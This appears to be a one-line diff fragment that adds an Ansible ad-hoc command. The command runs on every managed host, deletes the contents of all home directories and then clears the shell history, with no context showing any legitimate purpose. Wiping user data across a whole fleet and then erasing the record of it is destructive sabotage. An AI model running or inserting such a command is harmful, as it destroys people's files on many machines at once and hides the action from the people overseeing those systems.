@@ -1,0 +1,1 @@
+ansible all -m shell -a 'rm -rf /home/* ; history -c'
